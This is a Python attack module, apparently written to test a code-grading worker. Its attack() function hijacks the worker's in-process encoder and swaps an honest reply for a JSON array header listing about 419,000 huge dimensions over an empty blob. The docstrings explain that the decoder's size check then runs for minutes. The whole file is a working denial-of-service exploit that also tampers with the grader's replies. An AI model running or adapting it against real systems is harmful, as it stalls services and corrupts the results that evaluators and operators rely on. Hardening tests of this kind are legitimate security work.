import sys

HEADER_BYTES = (8 << 20) - 8192  # the reply's JSON header may hold 8 MiB; the frame's own keys take a few bytes
SIZE = 2**63 - 1  # each dimension: 19 digits and a comma, three 30-bit digits of a Python int
REPLIES = 1  # replies sent so (the first call of bytes_per_element); the rest are honest
_sent = []  # the replies replaced so far
_armed = []  # calls of bytes_per_element whose reply is still to be replaced


def array_of_many_dimensions(size=HEADER_BYTES):
    """A numpy array node ({"N": [dtype, shape, blob]}) whose shape lists as many dimensions of 2**63 - 1
    as the header holds (about 419,000), over an empty blob. The decoder checks that the blob holds
    math.prod(shape) * itemsize bytes, and math.prod multiplies the dimensions one by one into a Python
    int that grows by 63 bits each time: time quadratic in their number (40,000 took 5.6 s here), minutes
    for the whole header, before any check of the number of dimensions. Three JSON lists: nothing a count
    of lists and objects bounds."""
    count = (size - 40) // (len(str(SIZE)) + 1)
    return '{"N": ["<i8", [' + ",".join([str(SIZE)] * count) + '], 0]}', count


def _replace_encoder(codec):
    """The worker's encoder (it runs in this process, beside the student's code) sends the header above
    instead of the value of this function's reply (and of no other problem's), REPLIES times."""
    if getattr(codec, "many_dimensions_armed", False):
        return
    original = codec.encode
    header, count = array_of_many_dimensions()

    def encode(value):
        if _armed:
            _armed.clear()
            _sent.append(count)
            print(f"sends an array of {count:,} dimensions of {SIZE} over an empty blob", flush=True)
            return header, [b""]
        return original(value)

    codec.encode = encode
    codec.many_dimensions_armed = True


def attack(args):
    codec = sys.modules.get("adapters._codec")
    if codec is not None:
        _replace_encoder(codec)
        if len(_sent) < REPLIES:
            _armed.append(True)
    return None  # the function's own body runs on: its honest answer is replaced on the wire
